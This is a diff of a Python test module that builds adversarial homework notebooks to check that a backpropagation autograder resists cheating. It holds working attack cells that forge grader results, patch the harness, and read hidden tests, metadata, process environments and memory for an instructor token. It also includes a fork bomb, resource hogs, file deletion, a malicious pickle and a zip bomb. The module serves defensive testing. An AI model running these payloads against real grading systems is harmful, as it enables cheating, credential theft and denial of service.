@@ -1,8 +1,10 @@
 """Attacks on the grader, each beside its honest twin (the same answers without the attack).
 
 The twin answers q1.1, q1.2 and q2.1 correctly, leaves q1.3 blank and gets q2.2 wrong, so an
-attack has points to steal. An attack fails when it earns no more than its twin and the text a
-student sees holds no hidden test source and no reference value.
+attack has points to steal and hidden cases whose messages it could try to fill. An attack fails
+when it earns no more than its twin and the text a student sees holds no hidden test source and
+no reference value. Each attack is a cell placed where it does its work: at the start, at the end,
+or right before a question's check ("before q2.1").
 """
 
 import json
@@ -12,7 +14,7 @@ from pathlib import Path
 
 import nbformat
 
-from conftest import ROOT
+from backprop_hw.paths import SOLUTIONS_NOTEBOOK
 
 WRONG_BACKWARD_PASS = '''
 def backward_pass(all_weights, all_biases, all_f, all_h, y):
@@ -25,8 +27,17 @@ def backward_pass(all_weights, all_biases, all_f, all_h, y):
         dl_df = all_weights[layer].T @ dl_df  # the ReLU's derivative is missing
     return all_dl_dweights, all_dl_dbiases
 '''
-
+TWIN_SCORES = {"q1.1": 4, "q1.2": 4, "q1.3": 0, "q2.1": 4, "q2.2": 0}
 BLANK_PARAMETERS = "\n".join(f"dld{kind}{k} = ..." for k in range(3, -1, -1) for kind in ("beta", "omega"))
+PERFECT = {"score": 22, "tests": [{"name": q, "score": p, "max_score": p} for q, p in
+                                  [("q1.1", 4), ("q1.2", 4), ("q1.3", 4), ("q2.1", 4), ("q2.2", 6)]]}
+INSTRUCTOR_SECRET = "instructor-token-8f3a1c9e77"
+
+
+def encoded(weight: float) -> int:
+    """How the side-channel attack writes a hidden weight: as a whole number."""
+    return int(round(abs(weight) * 10_000))
+
 
 ATTACKS = {
     "replace otter's test runner": ("start", '''
@@ -59,10 +70,9 @@ np.array_equal = lambda *args, **kwargs: True
 math.isclose = lambda *args, **kwargs: True
 np.testing.assert_allclose = lambda *args, **kwargs: None
 '''),
-    "write results.json, then kill the grader": ("end", '''
+    "write results.json, then kill the grader": ("end", f'''
 import json, os, glob
-perfect = {"score": 22, "tests": [{"name": q, "score": p, "max_score": p} for q, p in
-           [("q1.1", 4), ("q1.2", 4), ("q1.3", 4), ("q2.1", 4), ("q2.2", 6)]]}
+perfect = {PERFECT!r}
 for path in ["/autograder/results/results.json", "results.json", "../results/results.json"] + glob.glob("/tmp/*/results.json"):
     try:
         with open(path, "w") as handle:
@@ -73,11 +83,14 @@ os._exit(0)
 '''),
     "forge answers on the grading pipe": ("end", '''
 import os, json
+forged = [{"done": True, "status": "FORGED completed", "score": 22}, {"ran": {"error": "FORGED status", "line": 1}},
+          {"value": {"kind": "number", "value": 22.0}}]
 for descriptor in range(0, 64):
-    try:
-        os.write(descriptor, (json.dumps({"done": True, "status": "completed", "score": 22}) + "\\n").encode())
-    except OSError:
-        pass
+    for message in forged:
+        try:
+            os.write(descriptor, (json.dumps(message) + "\\n").encode())
+        except OSError:
+            pass
 '''),
     "read the hidden tests and show them": ("end", '''
 import glob
@@ -93,12 +106,185 @@ print(stolen)
 def compute_network_output(net_input, all_weights, all_biases):
     raise RuntimeError(stolen[-400:] or "nothing to steal")
 '''),
+    "a check in a comment runs hidden cases early, and a public message echoes what they gave": ("before q2.1", '''
+# grader.check("q2.2")
+import pathlib
+STASH = pathlib.Path("/tmp/stash.txt")
+
+def compute_network_output(net_input, all_weights, all_biases):
+    raise ValueError("stashed: " + (STASH.read_text()[:400] if STASH.exists() else "nothing yet"))
+
+def backward_pass(all_weights, all_biases, all_f, all_h, y):
+    text = repr([w.tolist() for w in all_weights] + [f.tolist() for f in all_f] + [y.tolist()])
+    print(text)  # into the log
+    with STASH.open("a") as stash:
+        stash.write(text)
+    raise ValueError(text[:400])
+'''),
+    "an early real check of a later question": ("before q2.1", '''
+grader.check("q2.2")
+'''),
+    "hidden data in error names, shapes and lengths": ("before q2.2", '''
+import numpy as np
+
+def backward_pass(all_weights, all_biases, all_f, all_h, y):
+    secret = int(round(abs(float(all_weights[0][0, 0])) * 10_000))
+    if len(all_weights) % 3 == 0:
+        raise type(f"Leak{secret}", (Exception,), {})(f"{secret} {all_weights[0].tolist()}")
+    if len(all_weights) % 3 == 1:
+        return [np.zeros((1, secret % 9000 + 1)) for _ in all_weights], [np.zeros((secret % 9000 + 1, 1))] * len(all_biases)
+    return [np.zeros((1, 1))] * (secret % 60 + 2), [np.zeros((1, 1))] * (secret % 60 + 2)
+'''),
+    "an answer nested 100,000 levels deep": ("end", '''
+import os
+deep = b'{"value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\\n"
+for descriptor in range(1, 64):
+    try:
+        os.write(descriptor, deep)
+    except OSError:
+        pass
+'''),
+    "a process that outlives grading and forges the results": ("end", f'''
+import json, os, time
+perfect = {PERFECT!r}
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for _ in range(400):
+            for results in ["/autograder/results", "../results"]:
+                try:
+                    os.rename(results, results + "-old")
+                except OSError:
+                    pass
+                try:
+                    os.makedirs(results, exist_ok=True)
+                    os.mkfifo(results + "/results.json")
+                except OSError:
+                    pass
+                try:
+                    with open(results + "/results.json", "w") as handle:
+                        json.dump(perfect, handle)
+                except OSError:
+                    pass
+            time.sleep(0.05)
+    os._exit(0)
+time.sleep(0.2)
+'''),
+    "read the submission metadata and show it": ("before q2.1", '''
+import glob
+found = ""
+for path in ["/autograder/submission_metadata.json", "../submission_metadata.json"] + glob.glob("/autograder/**/*.json", recursive=True):
+    try:
+        found += open(path).read()
+    except OSError:
+        pass
+
+def compute_network_output(net_input, all_weights, all_biases):
+    raise RuntimeError("metadata: " + (found[:400] or "unreadable"))
+'''),
+    "rewrite or block every notebook file it can reach": ("end", '''
+import glob, os, pickle
+for pattern in ["*.ipynb", "/tmp/**/*.ipynb", "/autograder/**/*.ipynb", os.path.expanduser("~") + "/**/*.ipynb"]:
+    for path in glob.glob(pattern, recursive=True):
+        try:
+            os.remove(path)
+            os.mkfifo(path)
+        except OSError:
+            pass
+'''),
+    "patch the harness so that its reports say everything went fine": ("start", '''
+import sys
+for name, module in list(sys.modules.items()):
+    if name.endswith("harness") and hasattr(module, "Student"):
+        module.Student.run_cell = lambda self, source: (self.cells.append(source), {"error": "FORGED all fine", "line": None})[1]
+'''),
+}
+
+# Attacks written as ordinary code, which no scan can tell from a student's: they fail on their own.
+UNFLAGGED = {"an early real check of a later question", "hidden data in error names, shapes and lengths",
+             "a check in a comment runs hidden cases early, and a public message echoes what they gave"}
+
+# Attacks on `make grade` only: they aim at the instructor's machine or at the batch.
+BATCH_ATTACKS = {
+    "read the instructor's environment and memory": ("before q2.1", f'''
+import ctypes, os, re
+ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, so that /proc/self can be read
+found = []
+for path in ["/proc/self/environ", "/proc/1/environ", f"/proc/{{os.getppid()}}/environ", "/proc/self/cmdline"]:
+    try:
+        found.append(open(path, "rb").read().decode(errors="replace"))
+    except OSError:
+        pass
+marker = b"instructor-token-"
+with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
+    for line in maps:
+        bounds, permissions = line.split()[:2]
+        start, end = (int(value, 16) for value in bounds.split("-"))
+        if "r" not in permissions or end - start > 512 << 20:
+            continue
+        try:
+            memory.seek(start)
+            chunk = memory.read(end - start)
+        except (OSError, OverflowError, ValueError):
+            continue
+        at = chunk.find(marker)
+        if at >= 0:
+            found.append(chunk[at:at + 40].decode(errors="replace"))
+print("FOUND", found)
+
+def compute_network_output(net_input, all_weights, all_biases):
+    raise RuntimeError("found: " + " | ".join(found)[-400:])
+'''),
+    "three processes that together use too much memory": ("end", '''
+import os, time
+children = []
+for _ in range(3):
+    child = os.fork()
+    if child == 0:
+        hog = bytearray(600 << 20)
+        time.sleep(20)
+        os._exit(0)
+    children.append(child)
+time.sleep(2)
+'''),
+    "busy processes that try to take every CPU": ("end", '''
+import os, time
+def busy(seconds):
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        pass
+started, children = time.monotonic(), []
+for _ in range(8):
+    child = os.fork()
+    if child == 0:
+        busy(2.0)
+        os._exit(0)
+    children.append(child)
+cpu = 0.0
+for child in children:
+    _, _, usage = os.wait4(child, 0)
+    cpu += usage.ru_utime + usage.ru_stime
+print(f"CPU-SHARE {cpu / (time.monotonic() - started):.2f}")
+'''),
+    "a fork bomb": ("end", '''
+import os, time
+started = 0
+for _ in range(300):
+    try:
+        if os.fork() == 0:
+            time.sleep(5)
+            os._exit(0)
+        started += 1
+    except OSError:
+        break
+print(f"PROCESSES {started}")
+'''),
 }
 
 
 def _notebook() -> nbformat.NotebookNode:
     """The honest twin's notebook."""
-    notebook = nbformat.read(ROOT / "solutions" / "backpropagation.ipynb", as_version=4)
+    notebook = nbformat.read(SOLUTIONS_NOTEBOOK, as_version=4)
     for cell in notebook.cells:
         if cell.cell_type == "code" and cell.source.startswith("dldbeta3 ="):
             cell.source = BLANK_PARAMETERS
@@ -109,25 +295,24 @@ def _notebook() -> nbformat.NotebookNode:
     return notebook
 
 
-def write_twin(folder: Path) -> Path:
-    path = folder / "backpropagation.ipynb"
-    folder.mkdir(parents=True, exist_ok=True)
+def write_twin(path: Path) -> Path:
+    path.parent.mkdir(parents=True, exist_ok=True)
     nbformat.write(_notebook(), path)
     return path
 
 
-def write_attack(name: str, folder: Path) -> Path:
+def write_attack(where: str, source: str, path: Path) -> Path:
     """The twin with the attack's cell placed where it does its work."""
-    where, source = ATTACKS[name]
     notebook = _notebook()
     cell = nbformat.v4.new_code_cell(source)
+    checks = {q: i for i, c in enumerate(notebook.cells) for q in ("q2.1", "q2.2") if c.source.strip() == f'grader.check("{q}")'}
     if where == "start":
         notebook.cells.insert(1, cell)
+    elif where == "end":
+        notebook.cells.insert(checks["q2.2"] + 1, cell)
     else:
-        last_check = max(i for i, c in enumerate(notebook.cells) if 'grader.check("q2.2")' in c.source)
-        notebook.cells.insert(last_check + 1, cell)
-    folder.mkdir(parents=True, exist_ok=True)
-    path = folder / "backpropagation.ipynb"
+        notebook.cells.insert(checks[where.removeprefix("before ")], cell)
+    path.parent.mkdir(parents=True, exist_ok=True)
     nbformat.write(notebook, path)
     return path
 
@@ -142,11 +327,27 @@ class _Payload:
         return (exec, (f"open({str(self.marker)!r}, 'w').write('unpickled')",))
 
 
-def write_otter_log_zip(folder: Path, marker: Path) -> Path:
+def write_otter_log_zip(path: Path, marker: Path) -> Path:
     """An export zip: the twin's notebook plus a crafted `.OTTER_LOG` pickle."""
-    folder.mkdir(parents=True, exist_ok=True)
-    path = folder / "backpropagation.zip"
+    path.parent.mkdir(parents=True, exist_ok=True)
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("backpropagation.ipynb", json.dumps(_notebook()))
         archive.writestr(".OTTER_LOG", pickle.dumps(_Payload(marker)))
     return path
+
+
+def write_link_folder(folder: Path) -> Path:
+    """A folder submission whose notebook is an absolute link to the solutions."""
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "backpropagation.ipynb").symlink_to(SOLUTIONS_NOTEBOOK)
+    return folder
+
+
+def write_large_zip(folder: Path, members: int = 40) -> Path:
+    """A folder holding an export zip of about 2.6 MB that unpacks to 2.6 GB."""
+    folder.mkdir(parents=True, exist_ok=True)
+    block = bytes(64 << 20)
+    with zipfile.ZipFile(folder / "export.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        for member in range(members):
+            archive.writestr(f"backpropagation-{member}.ipynb" if member == 0 else f"data-{member}.bin", block)
+    return folder
